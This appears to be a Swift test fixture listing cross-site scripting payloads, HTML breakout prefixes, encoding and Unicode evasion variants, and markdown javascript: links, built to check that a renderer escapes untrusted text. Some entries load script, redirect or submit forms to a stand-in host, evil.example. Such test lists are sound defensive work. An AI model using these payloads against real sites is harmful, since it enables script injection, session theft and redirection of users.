/// Texts that have run as scripts on pages that did not escape them.
enum HostileTexts {
  static let all: [String] = payloads + breakouts.flatMap { breakout in payloads.prefix(12).map { breakout + $0 } }

  private static let breakouts = [
    "\">", "'>", "</title>", "</style>", "</p></div></main>", "--><!-- -->", "]]>", "\" ", "' ", "</svg>", "</a>",
    "\u{0}\">",
  ]

  private static let payloads = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "onmouseover=alert(1) x=",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "javascript:alert(1)",
    "<a href=javascript:alert(1)>x",
    "<script src=//evil.example/x.js></script>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<form action=//evil.example><input>",
    "<style>*{}</style>",
    "<object data=data:text/html,x>", "<embed src=//evil.example>", "<math><mi//xlink:href=\"javascript:alert(1)\">",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<!--",
    "-->",
    "<!DOCTYPE x>", "<?xml version='1.0'?>", "<![CDATA[x]]>", "<%= 1 %>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<", ">", "&", "\"", "'", "`", "</", "<a", "&lt;script&gt;", "&#60;script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&nbsp;&amp;&quot;&apos;", "%3Cscript%3E", "\u{3C}script\u{3E}", "\\x3cscript\\x3e", "＜script＞", "<scr\u{0}ipt>",
    "<\u{0}script>",
    "\u{202E}<script>", "\u{FEFF}<script>", "\u{2028}<script>", "<script\u{A0}>", "<script\u{C}>", "<script/x>",
    "<<script>>",
    "<scr<script>ipt>", "[a](javascript:alert(1))", "[a](java\tscript:alert(1))", "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>)", "[a](vbscript:x)", "![x](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[a](https://a.example/\"onmouseover=\"alert(1))", "[a](https://a.example/'><script>)", "[a]: javascript:alert(1)",
    "<javascript:alert(1)>", "<https://a.example>", "`<script>`", "**<script>**", "*<b*>*", "> <script>", "- <script>",
    "1. <script>",
    "### <script>", "[a](//evil.example)", "[a](https://user@evil.example)", "**[a](**javascript:x)",
    "[[a](tel:1)](javascript:x)",
    "\\<script\\>", "\\[a](javascript:x)", "`[a](javascript:x)", "x\n<script>\ny", "x\r\n\r\n<script>", "😀<script>",
    "a\u{301}<\u{301}script>",
    "‮gpj.<script>", "https://a.example/?<script>", "mailto:a@b.example?\"><script>", "+49\"><script>",
    "a@b.example\" x=\"",
  ]
}
